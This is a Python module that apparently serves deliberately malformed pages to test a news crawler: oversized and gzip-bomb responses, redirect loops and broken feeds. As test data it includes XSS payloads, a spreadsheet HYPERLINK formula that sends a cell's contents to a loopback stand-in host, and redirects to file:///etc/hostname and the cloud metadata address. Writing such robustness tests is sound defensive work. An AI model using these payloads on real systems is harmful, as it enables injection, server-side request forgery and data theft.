"""Pages that go wrong on purpose: what a crawler meets outside, gathered in one place."""

import gzip
import tomllib
from collections.abc import Callable, Iterator
from html import escape
from random import Random

from .content import FOLDER
from .reply import Reply, html, missing, redirect
from .templating import Markup, joined, paragraphs, render
from .world import Scene

HUGE = 50 * 1024 * 1024
UNPACKED = 8 * 1024 * 1024
CHUNK = 64 * 1024
LINKS = 10_000
COPIED = 1006
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"点我")'
ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\ufeff", "\u2060")

Answer = Callable[[Scene, str], Reply]

_FILE = tomllib.loads((FOLDER / "awkward.toml").read_text(encoding="utf-8"))
PAGES: dict[str, str] = {page["path"]: page["title"] for page in _FILE["page"]}
TEXTS: dict[str, str] = _FILE["texts"]


def awkward(scene: Scene, path: str, slow: float) -> Reply:
    if path in ("/awkward/", "/awkward/index.html"):
        return _index(scene)
    if path == "/awkward/slow.html":
        return Reply(body=_page(scene, path, TEXTS["slow"]).encode(), delay=slow)
    answer = _ANSWERS.get(path)
    return answer(scene, path) if answer else missing(path)


def forbidden_by_robots(scene: Scene, path: str) -> Reply:
    return html(_page(scene, path, TEXTS["private"]))


def _index(scene: Scene) -> Reply:
    rows = [
        Markup(
            f'<li><a href="{path}">{escape(title)}</a><span class="date">{scene.start:%Y-%m-%d %H:%M}</span></li>'
        )
        for path, title in PAGES.items()
    ]
    return html(
        render(
            "awkward_index.html", rows=joined(rows), name=scene.names["news"], notice=scene.names["notice"]
        )
    )


def _page(scene: Scene, path: str, text: str | Markup, *, title: str | None = None, head: str = "") -> str:
    return render(
        "awkward_page.html",
        title=PAGES.get(path, path) if title is None else title,
        head=Markup(head),
        published=f"{scene.start:%Y-%m-%d %H:%M}",
        body=text if isinstance(text, Markup) else paragraphs((text,)),
        notice=scene.names["notice"],
    )


def _huge(scene: Scene, path: str) -> Reply:
    def chunks() -> Iterator[bytes]:
        yield b"<!DOCTYPE html><html><head><meta charset='utf-8'><title>huge</title></head><body><p>"
        chunk = ("人防" * (CHUNK // 6)).encode()
        for _ in range(-(-HUGE // len(chunk))):
            yield chunk
        yield b"</p></body></html>"

    return Reply(chunks=chunks())


def _blank(scene: Scene, path: str) -> Reply:
    image = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    return html(f"<!DOCTYPE html><html><head><title>图</title></head><body><div>{image}</div></body></html>")


def _year_24(scene: Scene, path: str) -> Reply:
    head = '<meta name="PubDate" content="0024-11-20"><meta property="article:published_time" content="0024-11-20">'
    text = _page(scene, path, TEXTS["year-24"], head=head)
    return html(text.replace(f"{scene.start:%Y-%m-%d %H:%M}", "0024-11-20"))


def _wrong_type(scene: Scene, path: str) -> Reply:
    return Reply(body=_page(scene, path, TEXTS["wrong-type"]).encode(), content_type="image/jpeg")


def _short_gzip(scene: Scene, path: str) -> Reply:
    # poorly compressible on purpose, so that half of the stream already holds some text
    noise = "".join(chr(0x4E00 + Random(n).randrange(20_000)) for n in range(4_000))
    packed = gzip.compress(_page(scene, path, noise).encode(), mtime=0)
    return Reply(body=packed[: len(packed) // 2], headers={"Content-Encoding": "gzip"})


def _packed(scene: Scene, path: str) -> Reply:
    return Reply(body=gzip.compress(b"a" * UNPACKED, mtime=0), headers={"Content-Encoding": "gzip"})


def _script(scene: Scene, path: str) -> Reply:
    body = Markup(
        f"<p>{TEXTS['script']}</p>\n"
        "<script>alert('newsroom')</script>\n"
        '<p><a href="javascript:alert(1)">点击查看</a> <a href="JaVaScRiPt:alert(2)">再看</a> '
        '<a href="data:text/html,<script>alert(3)</script>">三看</a></p>\n'
        '<img src="x" onerror="alert(4)"><svg onload="alert(5)"></svg>\n'
        "<p>标题里也有：&lt;script&gt;alert(6)&lt;/script&gt;</p>"
    )
    return html(_page(scene, path, body, title="<script>alert(7)</script>宣传栏"))


def _formula(scene: Scene, path: str) -> Reply:
    body = paragraphs((FORMULA, TEXTS["formula"], "+1+1", "@SUM(A1:A9)", "-2+3"), indent="")
    return html(_page(scene, path, body, title=FORMULA))


def _full_width(scene: Scene, path: str) -> Reply:
    body = Markup(
        f"<p>{TEXTS['full-width']}</p>\n<p><a href=“/news/”>写错引号的链接</a> ＂全角直引号＂ ＇单＇</p>"
    )
    return html(_page(scene, path, body, title="“全角”引号与＂直＂引号"))


def _untitled(scene: Scene, path: str) -> Reply:
    return html(_page(scene, path, TEXTS["untitled"], title=""))


def _refresh(scene: Scene, path: str) -> Reply:
    return html(
        _page(scene, path, TEXTS["refresh"], head='<meta http-equiv="refresh" content="0; url=/news/">')
    )


def _links(scene: Scene, path: str) -> Reply:
    links = (f'<a href="/awkward/n/{n}.html">{n}</a>' for n in range(LINKS))
    return html(_page(scene, path, Markup("\n".join(links))))


def _zero_width(scene: Scene, path: str) -> Reply:
    text = TEXTS["zero-width"]
    hidden = "".join(letter + ZERO_WIDTH[n % len(ZERO_WIDTH)] for n, letter in enumerate(text))
    return html(_page(scene, path, hidden))


def _broken_feed(scene: Scene, path: str) -> Reply:
    text = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>坏掉的订阅 &nbsp; A & B &undefined;</title>
<item><title>{TEXTS["broken"]} & 其他</title><link>{scene.base}/awkward/copy.html?a=1&b=2</link>
<description>&bad;实体 \x0b 与控制符</description></item>
</channel>
"""
    return Reply(body=text.encode(), content_type="application/rss+xml; charset=utf-8")


def _empty_feed(scene: Scene, path: str) -> Reply:
    return Reply(content_type="application/rss+xml; charset=utf-8")


def _copy(scene: Scene, path: str) -> Reply:
    original = next(a for a in scene.articles["news"] if a.article.id == COPIED)
    return html(_page(scene, path, paragraphs(original.paragraphs), title=original.title))


def _part(number: int) -> Answer:
    """A report on three pages, whose second one names the third as publishing systems do."""

    def answer(scene: Scene, path: str) -> Reply:
        below = (
            '<div class="pages"><span>1</span> <a href="serial_2.html">2</a> <a href="serial_2.html">下一页</a></div>',
            '<script>createPageHTML(4, 2, "serial", "html");</script>',
            '<p><a href="serial_2.html">上一页</a></p><p>下一篇：<a href="copy.html">副本</a></p>',
        )[number - 1]
        body = Markup(f"<p>{TEXTS[f'serial-{number}']}</p>\n{below}")
        return html(_page(scene, path, body, title=PAGES["/awkward/serial.html"]))

    return answer


def _to(location: str) -> Answer:
    return lambda scene, path: redirect(location)


def _status(status: int, **headers: str) -> Answer:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return lambda scene, path: Reply(status=status, body=f"<h1>{status}</h1>".encode(), headers=named)


_ANSWERS: dict[str, Answer] = {
    "/awkward/huge.html": _huge,
    "/awkward/loop": _to("/awkward/loop2"),
    "/awkward/loop2": _to("/awkward/loop"),
    "/awkward/blank.html": _blank,
    "/awkward/year-24.html": _year_24,
    "/awkward/wrong-type.html": _wrong_type,
    "/awkward/short-gzip.html": _short_gzip,
    "/awkward/packed.html": _packed,
    "/awkward/error.html": _status(500),
    "/awkward/forbidden.html": _status(403),
    "/awkward/busy.html": _status(429, Retry_After="1"),
    "/awkward/to-file": _to("file:///etc/hostname"),
    "/awkward/to-metadata": _to("http://169.254.169.254/"),
    "/awkward/to-loopback": _to("http://127.2/"),
    "/awkward/script.html": _script,
    "/awkward/formula.html": _formula,
    "/awkward/full-width.html": _full_width,
    "/awkward/untitled.html": _untitled,
    "/awkward/refresh.html": _refresh,
    "/awkward/links.html": _links,
    "/awkward/zero-width.html": _zero_width,
    "/awkward/broken.xml": _broken_feed,
    "/awkward/empty.xml": _empty_feed,
    "/awkward/copy.html": _copy,
    "/awkward/serial.html": _part(1),
    "/awkward/serial_2.html": _part(2),
    "/awkward/serial_3.html": _part(3),
}
